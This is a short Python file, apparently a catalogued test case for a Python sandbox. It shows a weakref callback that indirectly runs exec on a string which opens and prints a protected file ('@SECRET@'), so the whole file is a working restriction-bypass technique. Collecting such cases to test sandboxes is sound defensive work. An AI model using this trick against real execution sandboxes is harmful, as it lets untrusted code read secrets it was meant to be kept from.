# technique: a weakref callback that is exec with fresh globals: its argument is ignored
# goal: read-secret
# source: own analysis: the default builtins of exec
import functools
import weakref


class Thing:
    pass


thing = Thing()
run = functools.partial(dict.fromkeys, map(exec, ['print(open("@SECRET@").read(), flush=True)'], [{}]))
reference = weakref.ref(thing, run)
del thing
